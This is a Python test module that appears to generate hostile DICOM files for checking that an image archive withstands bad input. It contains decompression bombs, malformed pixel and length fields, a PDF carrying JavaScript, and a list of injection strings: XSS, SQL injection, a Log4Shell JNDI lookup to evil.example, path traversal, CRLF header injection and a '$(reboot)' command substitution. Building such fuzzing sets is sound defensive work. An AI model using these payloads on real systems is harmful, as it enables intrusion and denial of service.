"""Hostile images and texts, made: classes 5 and 9 to 22 of docs/hostile-input.md, as far as they
are instances. An archive is no viewer: what can be identified is kept as it came. What is asked of
these is that nothing that reads them fails in another way than by saying so.
"""

import struct
import zlib
from collections.abc import Iterator
from functools import cache

import imagecodecs
import numpy as np

from hostile import (
    IMPLICIT_LITTLE,
    ITEM,
    JPEG_BASELINE,
    SEQUENCE_END,
    STUDY,
    UNDEFINED,
    Hostile,
    Maker,
    element,
    even,
    implicit,
    tag_of,
)
from instances import CT_IMAGE_STORAGE, uids

DEFLATED = "1.2.840.10008.1.2.1.99"
BIG_ENDIAN = "1.2.840.10008.1.2.2"
RLE = "1.2.840.10008.1.2.5"
JPEG_LOSSLESS = "1.2.840.10008.1.2.4.70"
JPEG_LS = "1.2.840.10008.1.2.4.80"
JPEG_2000 = "1.2.840.10008.1.2.4.90"
HTJ2K = "1.2.840.10008.1.2.4.201"
PRIVATE_GE = "1.2.840.113619.5.2"  # implicit little endian, pixels big endian
BASIC_TEXT_SR = "1.2.840.10008.5.1.4.1.1.88.11"
ENCAPSULATED_PDF = "1.2.840.10008.5.1.4.1.1.104.1"
ENCAPSULATED_STL = "1.2.840.10008.5.1.4.1.1.104.3"
BOMB_BYTES = 10 << 30
SMALLER_BYTES = 320 << 20  # over what is inflated before pixel data
SAMPLES, PHOTOMETRIC, PLANAR, FRAMES = 0x00280002, 0x00280004, 0x00280006, 0x00280008
ROWS, COLUMNS = 0x00280010, 0x00280011
ALLOCATED, STORED, HIGH, SIGNED = 0x00280100, 0x00280101, 0x00280102, 0x00280103
PIXELS = 0x7FE00010


def us(tag: int, *numbers: int) -> bytes:
    return element(tag, b"US", struct.pack(f"<{len(numbers)}H", *numbers))


def decimals(first: int, *texts: str) -> list[bytes]:
    """Elements of decimal text, one behind the other."""
    return [element(first + n, b"DS", even(text)) for n, text in enumerate(texts)]


def image(
    *also: bytes, pixels: bytes = bytes(64), length: int | None = None, vr: bytes = b"OB"
) -> bytes:
    """An image of 8 by 8 pixels of a byte, in the order of its tags; what is in `also` stands in
    the place of its own elements of those tags."""
    own = (
        us(SAMPLES, 1),
        element(PHOTOMETRIC, b"CS", b"MONOCHROME2 "),
        us(ROWS, 8),
        us(COLUMNS, 8),
        us(ALLOCATED, 8),
        us(STORED, 8),
        us(HIGH, 7),
        us(SIGNED, 0),
    )
    found = {each[:4]: each for each in (*own, *also)}
    in_order = sorted(found.values(), key=lambda each: struct.unpack("<HH", each[:4]))
    return b"".join(in_order) + element(PIXELS, vr, pixels, length)


def item(value: bytes, length: int | None = None) -> bytes:
    return ITEM[:4] + struct.pack("<I", len(value) if length is None else length) + value


def encapsulated(*fragments: bytes, table: bytes = b"", end: bytes = SEQUENCE_END) -> bytes:
    return item(table) + b"".join(map(item, fragments)) + end


# --- 5: what inflates to very much


@cache
def zeros_deflated(size_bytes: int) -> bytes:
    """The inside of a deflate stream: blocks that inflate to so many zeros."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = 64 << 20
    first = stream.compress(bytes(piece)) + stream.flush(zlib.Z_FULL_FLUSH)
    # Behind a full flush the same input gives the same bytes, whatever came before.
    return first * (size_bytes // piece)


def deflated(front: bytes, size_bytes: int, back: bytes = b"") -> bytes:
    """`front`, so many zeros and `back`, deflated."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = stream.compress(front) + stream.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return head + zeros_deflated(size_bytes) + tail.compress(back) + tail.flush()


def bombs(make: Maker) -> None:
    """Class 5: the length of what comes says nothing of what it inflates to."""
    late = element(0x00420011, b"OB", b"", 0xFFFFFFFE)
    slide = image(us(ROWS, 4096), us(COLUMNS, 4096), pixels=b"", length=4096 * 4096)
    for name, back, size_bytes in (
        ("of 10 GiB", image(pixels=b"", length=64), BOMB_BYTES),
        ("of one value", late, SMALLER_BYTES),
        ("of elements that are none", image(pixels=b""), SMALLER_BYTES),
        ("behind its pixels", slide, SMALLER_BYTES),
    ):
        data_set = deflated(make.body(back=back), size_bytes)
        make.add(f"5 bomb {name}", kept=True, data_set=data_set, transfer_syntax=DEFLATED)
    make.add("5 bomb before the study's UID", kept=False, transfer_syntax=DEFLATED,
             data_set=deflated(make.body()[:60], SMALLER_BYTES, make.body()[60:]))  # fmt: skip


# --- 9, 10, 11: images that cannot be


def attributes(make: Maker) -> None:
    """Class 9: numbers that describe no image, or a larger one than there is."""
    rgb = (us(SAMPLES, 3), element(PHOTOMETRIC, b"CS", b"RGB "))
    for name, also in (
        ("rows as UL over 16 bits", [element(ROWS, b"UL", struct.pack("<I", 65544))]),
        ("rows and columns as text", [element(ROWS, b"IS", b"8 "), element(COLUMNS, b"LO", b"ab")]),
        ("no rows", [us(ROWS)]),
        ("rows of 0", [us(ROWS, 0)]),
        ("several rows", [us(ROWS, 8, 8, 8)]),
        ("65,535 squared", [us(ROWS, 65535), us(COLUMNS, 65535)]),
        (
            "65,535 squared of four samples of 64 bits",
            [us(ROWS, 65535), us(COLUMNS, 65535), us(SAMPLES, 4), us(ALLOCATED, 64)],
        ),
        *((f"{text} frames", [element(FRAMES, b"IS", even(text))])
          for text in ("2147483648", "-1", "1e9", "0", "999999999999", "NaN", "1\\2\\3")),
        *((f"{bits} bits allocated", [us(ALLOCATED, bits)]) for bits in (0, 1, 7, 12, 64, 65535)),
        ("more bits stored than allocated", [us(STORED, 16)]),
        ("a high bit outside", [us(HIGH, 65535)]),
        *((f"{samples} samples", [us(SAMPLES, samples)]) for samples in (0, 2, 4, 65535)),
        ("three samples and a planar configuration of 2", [*rgb, us(PLANAR, 2)]),
        ("three samples and one's length", [*rgb, us(PLANAR, 1)]),
        ("RGB of one sample", [element(PHOTOMETRIC, b"CS", b"RGB ")]),
        ("no photometric interpretation", [element(PHOTOMETRIC, b"CS", b"")]),
        ("a photometric interpretation of 60 kB", [element(PHOTOMETRIC, b"CS", b"M" * 60_000)]),
        (
            "subsampled and odd",
            [us(SAMPLES, 3), element(PHOTOMETRIC, b"CS", b"YBR_FULL_422"), us(COLUMNS, 7)],
        ),
        ("pixel representation of 7", [us(SIGNED, 7)]),
        ("a window of no width", decimals(0x00281050, "0", "-1")),
        ("a window that is no number", decimals(0x00281050, "1e999", "nan")),
        ("a rescale of 1e308", decimals(0x00281052, "1e308", "1e308")),
    ):  # fmt: skip
        make.add(f"9 {name}", kept=True, data_set=make.body(back=image(*also)))


def pixel_data(make: Maker) -> None:
    """Class 10: pixel data that is not as long as it should be, tables that point elsewhere."""
    one, other = b"\xff\xd8" + bytes(98), b"\xff\xd8" + bytes(48)
    frames = element(FRAMES, b"IS", b"2 ")

    def numbers(code: str, *values: int) -> bytes:
        return struct.pack(f"<{len(values)}{code}", *values)

    for name, also, value in (
        ("offsets outside", [frames], encapsulated(one, other, table=numbers("I", 0, 0xFFFFFFF0))),
        ("offsets that descend", [frames], encapsulated(one, other, table=numbers("I", 108, 0))),
        ("the same offset twice", [frames], encapsulated(one, other, table=numbers("I", 0, 0))),
        ("offsets into a fragment", [frames], encapsulated(one, other, table=numbers("I", 0, 50))),
        ("a table of five bytes", [frames], encapsulated(one, other, table=b"\0" * 5)),
        ("a table of a million entries", [frames], encapsulated(one, table=bytes(4_000_000))),
        ("an item of undefined length", [frames], item(b"") + item(one, UNDEFINED) + SEQUENCE_END),
        ("an item that holds its table", [frames], item(item(b""), 0xFFFFFFFE)),
        ("an item of 4 GiB", [frames], item(b"") + item(one, 0xFFFFFFFE) + SEQUENCE_END),
        ("100,000 empty fragments", [frames], encapsulated(*[b""] * 100_000)),
        ("no items", [frames], SEQUENCE_END),
        ("no table", [frames], SEQUENCE_END * 3),
        ("an item's end for an item", [frames], item(b"") + ITEM[:4] + b"\x0d\xe0\0\0" * 9),
        (
            "extended offsets outside",
            [frames, element(0x7FE00001, b"OV", numbers("Q", 0, (1 << 64) - 8)),
             element(0x7FE00002, b"OV", numbers("Q", 100, 1 << 63))],
            encapsulated(one, other),
        ),
        (
            "extended offsets that overlap",
            [frames, element(0x7FE00001, b"OV", numbers("Q", 0, 0)),
             element(0x7FE00002, b"OV", numbers("Q", 100, 100))],
            encapsulated(one, other),
        ),
        (
            "extended offsets of other frames",
            [frames, element(0x7FE00001, b"OV", numbers("Q", 0))],
            encapsulated(one, other),
        ),
    ):  # fmt: skip
        made = image(*also, pixels=value, length=UNDEFINED)
        make.add(
            f"10 {name}",
            kept=True,
            data_set=make.body(back=made),
            transfer_syntax=JPEG_BASELINE,
        )
    for name, made in (
        ("half an image", image(pixels=bytes(32))),
        ("no pixels", image(pixels=b"")),
        ("twice an image", image(pixels=bytes(128))),
        ("a thousand frames that are not there", image(element(FRAMES, b"IS", b"1000"))),
        (
            "encapsulated pixels in a native syntax",
            image(pixels=encapsulated(one), length=UNDEFINED),
        ),
        ("pixels twice", image() + element(PIXELS, b"OB", bytes(64))),
        ("pixels as text", image(vr=b"UT")),
    ):
        make.add(f"10 {name}", kept=True, data_set=make.body(back=made))
    native = image()
    make.add("10 native pixels in a compressed syntax", kept=True,
             data_set=make.body(back=native), transfer_syntax=JPEG_BASELINE)  # fmt: skip


def palettes(make: Maker) -> None:
    """Class 11: tables of colours that are not there, or that go on for ever."""
    coloured = element(PHOTOMETRIC, b"CS", b"PALETTE COLOR ")
    reaching = bytes(range(192, 256))

    def tables(*described: int, data: bytes, segmented: bool = False) -> list[bytes]:
        of_data = 0x00281221 if segmented else 0x00281201
        return [
            each
            for number in range(3)
            for each in (
                us(0x00281101 + number, *described),
                element(of_data + number, b"OW", data),
            )
        ]

    loop = struct.pack("<HHHHHHHI", 0, 1, 7, 1, 1, 7, 2, 0)  # the last points to the first, again
    for name, also in (
        ("no tables", []),
        ("65,536 entries of which two are there", tables(0, 0, 16, data=bytes(4))),
        ("65,535 entries of none", tables(65535, 0, 16, data=b"")),
        ("16 entries for pixels of 255", tables(16, 0, 16, data=bytes(32))),
        ("entries behind all pixels", tables(16, 65535, 16, data=bytes(32))),
        ("entries of 0 bits", tables(16, 0, 0, data=bytes(32))),
        ("entries of 32 bits", tables(16, 0, 32, data=bytes(32))),
        ("a description of one number", tables(16, data=bytes(32))),
        ("a description of nine", tables(*range(9), data=bytes(32))),
        ("an odd table", tables(16, 0, 16, data=bytes(31))),
        ("a segment of itself", tables(65535, 0, 16, data=loop, segmented=True)),
        ("segments that are none", tables(256, 0, 16, data=b"\xff" * 600, segmented=True)),
    ):
        made = image(coloured, *also, pixels=reaching)
        make.add(f"11 {name}", kept=True, data_set=make.body(back=made))
    voi = element(0x00283010, b"SQ", item(us(0x00283002, 0, 0, 16) + us(0x00283006, 1)))
    make.add("11 a VOI table of one of 65,536", kept=True, data_set=make.body(back=image(voi)))


# --- 12: frames that are no images


def codestreams() -> dict[str, bytes]:
    """A frame of each kind of compression, 8 by 8 pixels of a byte."""
    pixels = np.arange(64, dtype=np.uint8).reshape(8, 8)
    return {
        JPEG_BASELINE: imagecodecs.jpeg8_encode(pixels),
        JPEG_LOSSLESS: imagecodecs.ljpeg_encode(pixels),
        JPEG_LS: imagecodecs.jpegls_encode(pixels),
        JPEG_2000: imagecodecs.jpeg2k_encode(pixels, codecformat="j2k", reversible=True),
        HTJ2K: imagecodecs.htj2k_encode(pixels, reversible=True),
        RLE: struct.pack("<16I", 1, 64, *[0] * 14) + b"\x3f" + pixels.tobytes() + b"\0",
    }


def larger(frame: bytes, syntax: str) -> bytes:
    """The frame, of an image that it says to have 65,000 or two thousand million columns."""
    if syntax in (JPEG_2000, HTJ2K):
        at = frame.index(b"\xff\x51") + 6
        return frame[:at] + b"\x7f\xff\xff\xf0" * 2 + frame[at + 8 :]
    if syntax == RLE:
        return struct.pack("<16I", 0xFFFFFFFF, *[0xFFFFFFF0] * 15) + frame[64:]
    for marker in (b"\xff\xc0", b"\xff\xc3", b"\xff\xf7"):
        if marker in frame:
            at = frame.index(marker) + 5
            return frame[:at] + b"\xfd\xe8" * 2 + frame[at + 4 :]
    raise AssertionError(syntax)


def compressed(make: Maker) -> None:
    """Class 12: codestreams that are damaged, cut off, or of another image."""
    for syntax, frame in codestreams().items():
        middle = len(frame) // 2
        for name, wrong in (
            ("whole", frame),
            ("cut off", frame[:middle]),
            ("of rubbish", b"\xa5" * len(frame)),
            ("empty", b""),
            ("with a bad byte in its middle", frame[:middle] + b"\xff" + frame[middle + 1 :]),
            ("of a far larger image", larger(frame, syntax)),
            ("twice", frame + frame),
            ("of another compression", codestreams()[RLE if syntax != RLE else JPEG_BASELINE]),
        ):
            padded = wrong + b"\0" * (len(wrong) % 2)
            made = image(pixels=encapsulated(padded), length=UNDEFINED)
            make.add(
                f"12 {syntax.rpartition('1.2.')[2]} {name}",
                kept=True,
                data_set=make.body(back=made),
                transfer_syntax=syntax,
            )
    scans = codestreams()[JPEG_BASELINE]
    at = scans.index(b"\xff\xda")
    many = scans[:at] + scans[at:-2] * 500 + b"\xff\xd9"
    runs = struct.pack("<16I", 1, 64, *[0] * 14) + b"\x81\0" * 1_000_000  # 128 MB of one byte
    for name, wrong, syntax in (
        ("500 scans", many, JPEG_BASELINE),
        ("runs far over its image", runs, RLE),
    ):
        made = image(pixels=encapsulated(wrong + b"\0" * (len(wrong) % 2)), length=UNDEFINED)
        make.add(f"12 {name}", kept=True, data_set=make.body(back=made), transfer_syntax=syntax)


# --- 13, 14: encodings


def encodings(make: Maker) -> None:
    """Class 13: syntaxes that nobody knows, private things, group lengths that lie."""
    for name, syntax in (
        ("an unknown syntax", "1.2.3.4.5.6.7"),
        ("a retired one", "1.2.840.10008.1.2.4.64"),
    ):
        data_set = make.body(back=image())
        make.add(f"13 {name}", kept=True, data_set=data_set, transfer_syntax=syntax)
    as_implicit = b"".join(
        implicit(tag, value)
        for tag, value in (
            (0x00080016, even(CT_IMAGE_STORAGE)),
            (0x00080018, even(make.uid())),
            (0x00100020, b"H-1 "),
            (0x0020000D, even(uids(STUDY, 0, 0)[0])),
            (0x0020000E, even(uids(STUDY, 0, 0)[1])),
            (0x00280010, b"\x08\0"),
            (0x7FE00010, bytes(64)),
        )
    )
    make.add("13 a private syntax of GE", kept=True, data_set=as_implicit,
             transfer_syntax=PRIVATE_GE)  # fmt: skip
    for name, lie in (("0", 0), ("4 GiB", 0xFFFFFFFE), ("3", 3)):
        length = element(0x00080000, b"UL", struct.pack("<I", lie))
        data_set = length + make.body(back=image())
        make.add(f"13 a group length of {name}", kept=True, data_set=data_set)
    nobodys = element(0x00091010, b"UN", b"x" * 64) + element(0x00090010, b"LO", b"")
    make.add("13 private elements of no creator", kept=True, data_set=make.body(front=nobodys))
    inside = item(implicit(0x0020000D, b"1.2.3\0")) + SEQUENCE_END
    hidden = element(0x00091001, b"UN", inside, UNDEFINED)
    make.add("13 another study's UID inside UN", kept=True, data_set=make.body(front=hidden))
    mixed = implicit(0x00081030, b"implicit in the middle") + element(0x00081040, b"LO", b"X ")
    make.add("13 implicit in the middle of explicit", kept=True, data_set=make.body(front=mixed))


HOSTILE_TEXTS: tuple[bytes, ...] = (
    b"<script>alert(1)</script>^<img src=x onerror=alert(2)>",
    b"=cmd|' /C calc'!A0^@SUM(1+1)*cmd",
    b"'; DROP TABLE instance; --^\" OR 1=1",
    b"%s%s%n^{0.__class__}^${jndi:ldap://evil.example/a}",
    b"../../../etc/passwd^C:\\Windows\\win.ini",
    b"A\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    b"\x1b[31mRED\x1b]0;title\x07",
    b"nul\0inside^tab\tbell\x07",
    b"^" * 200,
    b"=" * 50 + b"^" * 50,
    b"a" * 4000,
)
CHARACTER_SETS: tuple[tuple[bytes, bytes], ...] = (
    (b"ISO_IR 192", b"\xff\xfe\x80^\xc3\x28^\xed\xa0\x80"),  # no UTF-8, a surrogate
    (b"ISO_IR 192", "\u202egnp.exe^\u0000\ufeff^\U0001f480".encode()),
    (b"\\ISO 2022 IR 87", b"\x1b$B\x3b\x33\x45^\x1b$B"),  # half a character, no way back
    (b"\\ISO 2022 IR 149", b"\x1b$)C\xff\xff\xff^\x1b$)"),
    (b"ISO 2022 IR 6\\ISO 2022 IR 87\\ISO 2022 IR 159", b"\x1b$(D\x30\x21\x1b(B^\x1b(J\x5c"),
    (b"GB18030", b"\x81\x30\x81\x30\xff^\x84\x31\xa4"),
    (b"ISO_IR 999", b"na\xefve^\x80\x81"),
    (b"ISO_IR 100\\ISO_IR 192", b"mixed \xe9^\xc3\xa9"),
    (b"$(reboot)", b"plain^name"),
    (b"\\" * 15, b"many\xe4^sets"),
    (b"", b"\xe4\xf6\xfc^none said"),
)


def texts(make: Maker) -> None:
    """Class 14: names that mean something to whoever shows them, and bytes that are no text."""

    def named(charset: bytes, name: bytes) -> bytes:
        said = element(0x00080005, b"CS", even(charset)) if charset else b""
        front = element(0x00081030, b"LO", name[:64])
        whole = make.body(front=front)
        name = name + b" " * (len(name) % 2)
        old = element(0x00100010, b"PN", b"Hostile^Henrietta ")
        return said + whole.replace(old, element(0x00100010, b"PN", name))

    for number, name in enumerate(HOSTILE_TEXTS):
        make.add(f"14 name {number}", kept=True, data_set=named(b"", name))
    for number, (charset, name) in enumerate(CHARACTER_SETS):
        make.add(f"14 character set {number}", kept=True, data_set=named(charset, name))


# --- 20, 21, 22


DATES = (
    *(b"00010101", b"99991231", b"00000000", b"99999999"),
    *(b"20260230", b"2026.01.15", b"-1260115", b"notadate"),
)
TIMES = (b"000000", b"235960.999999", b"246060", b"99", b"10:15:30", b"1015 ")


def moments(make: Maker) -> None:
    """Class 20: the first day, the last one, and days that are none."""
    for number, date in enumerate(DATES):
        time = TIMES[number % len(TIMES)]
        when = element(0x00080020, b"DA", date + b" " * (len(date) % 2))
        when += element(0x00080030, b"TM", time + b" " * (len(time) % 2))
        zone = element(0x00080201, b"SH", (b"+1400 ", b"-9999 ", b"zone")[number % 3])
        made = make.body(front=when + zone)
        make.add(f"20 the date {date.decode()}", kept=True, data_set=made)


PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF\n"


def documents(make: Maker) -> None:
    """Class 21: very many frames, reports of nothing, documents with programs in them."""
    count = 100_000
    frames = element(FRAMES, b"IS", str(count).encode())
    many = image(frames, us(ROWS, 1), us(COLUMNS, 8), pixels=bytes(count * 8))
    make.add("21 100,000 frames of eight bytes", kept=True, data_set=make.body(back=many))
    make.add("21 a report of nothing", kept=True, sop_class=BASIC_TEXT_SR,
             data_set=make.body(sop_class=BASIC_TEXT_SR))  # fmt: skip
    empty = element(0x0040A730, b"SQ", b"")
    make.add("21 a report of an empty sequence", kept=True, sop_class=BASIC_TEXT_SR,
             data_set=make.body(sop_class=BASIC_TEXT_SR, back=empty))  # fmt: skip
    for name, sop_class, kind, value in (
        ("a PDF with a script", ENCAPSULATED_PDF, b"application/pdf ", PDF),
        ("an STL that is a page", ENCAPSULATED_STL, b"text/html ", b"<script>alert(1)</script>"),
        ("a type with a line end in it", ENCAPSULATED_PDF, b"text/html\r\nX-Evil: 1\r\n", PDF),
    ):
        held = element(0x00420011, b"OB", even(value)) + element(0x00420012, b"LO", even(kind))
        made = make.body(sop_class=sop_class, back=held)
        make.add(f"21 {name}", kept=True, data_set=made, sop_class=sop_class)


def wide_lengths(make: Maker) -> None:
    """Class 22: lengths at the edge of 32 bits, where sums wrap round."""
    for said in (0xFFFFFFFE, 0xFFFFFFFD, 0x80000000, 0xFFFFFFF4):
        make.add(f"22 a value of {said} B", kept=True,
                 data_set=make.body(back=element(0x00420011, b"OB", b"%PDF", said)))  # fmt: skip
        make.add(f"22 pixels of {said} B", kept=True,
                 data_set=make.body(back=image(length=said)))  # fmt: skip
    wrapped = tag_of(0x00081115) + b"SQ" + struct.pack("<HI", 0, 0xFFFFFFF8)
    make.add("22 a sequence that wraps round", kept=False, data_set=make.body(front=wrapped))
    name = implicit(0x00100010, b"Hostile^H ", 0xFFFFFFF0)
    head = implicit(0x00080016, even(CT_IMAGE_STORAGE)) + implicit(0x00080018, even(make.uid()))
    make.add("22 a name that wraps round, implicit", kept=False, data_set=head + name,
             transfer_syntax=IMPLICIT_LITTLE)  # fmt: skip


CLASSES = (
    *(bombs, attributes, pixel_data, palettes, compressed),
    *(encodings, texts, moments, documents, wide_lengths),
)


def attacks() -> Iterator[Hostile]:
    make = Maker(first=2000)
    for each in CLASSES:
        each(make)
    return iter(make.made)


ATTACKS = tuple(attacks())
